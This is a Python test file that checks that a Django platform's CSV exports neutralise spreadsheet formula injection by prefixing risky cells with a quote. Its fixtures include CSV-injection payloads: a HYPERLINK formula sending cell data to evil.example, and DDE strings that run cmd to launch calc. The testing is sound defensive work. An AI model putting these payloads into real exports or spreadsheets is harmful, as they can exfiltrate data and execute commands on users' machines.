"""No CSV the platform writes can run a spreadsheet formula (issue 9, finding 13)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from uitweg.cases import services
from uitweg.core.exports import FORMULA_START, is_plain_number, safe_cell, write_csv
from uitweg.estimation import CaptureTable
from uitweg.testing.clients import force_login_with_mfa
from uitweg.testing.factories import OrganisationFactory

from .factories import coordinator, make_case, mark_reauthenticated

SRC = Path(__file__).resolve().parents[2]  # src/uitweg
ATTACKS = ['=HYPERLINK("https://evil.example/?d="&A1,"Klik")', "+31 6 1234 5678",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def dangerous(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not is_plain_number(cell)


cells = st.one_of(st.text(), st.integers(), st.floats(allow_nan=False, allow_infinity=False),
                  st.sampled_from(ATTACKS), st.none())


@given(st.lists(st.lists(cells, max_size=6), max_size=6), st.lists(st.text(), max_size=4))
def test_no_written_cell_starts_a_formula(rows, header):
    for row in parse(write_csv(header, rows)):
        assert not any(dangerous(cell) for cell in row), row


@given(st.text())
def test_text_is_kept_and_only_marked(text):
    cell = safe_cell(text)
    assert cell == text or (cell == "'" + text and text.startswith(FORMULA_START))


def test_numbers_stay_numbers():
    assert [safe_cell(v) for v in (-3, -0.25, "-0.25", "+1", "12")] == [
        -3, -0.25, "-0.25", "+1", "12"]
    assert [safe_cell(v) for v in ATTACKS] == ["'" + a for a in ATTACKS]


@pytest.mark.django_db
def test_the_comensha_export_neutralises_an_organisation_name(client):
    boss = coordinator()
    reporter = OrganisationFactory(name=ATTACKS[0])
    case = make_case(by=boss, reporting_organisation=reporter)
    services.update_case_details(by=boss, case=case, expected_version=1,
                                 values={"registration_basis": True})
    force_login_with_mfa(client, boss)
    mark_reauthenticated(client, boss)
    response = client.post(reverse("cases:export"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["reporting_organisation"] == "'" + ATTACKS[0]
    assert rows[0]["case_number"] == case.number


def test_the_estimation_csvs_neutralise_list_names():
    table = CaptureTable.from_rows(["=cmd|' /C calc'!A0", "Police"],
                                   [((1, 0), 3), ((0, 1), 4), ((1, 1), 2)])
    header = parse(table.to_csv())[0]
    assert header[0] == "'=cmd|' /C calc'!A0" and header[1] == "Police"


def test_every_csv_writer_is_the_safe_one():
    """A new export that builds its own csv.writer fails here: use uitweg.core.exports."""
    raw = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [str(p.relative_to(SRC)) for p in SRC.rglob("*.py")
                 if "tests" not in p.parts and p.name != "exports.py"
                 and raw.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
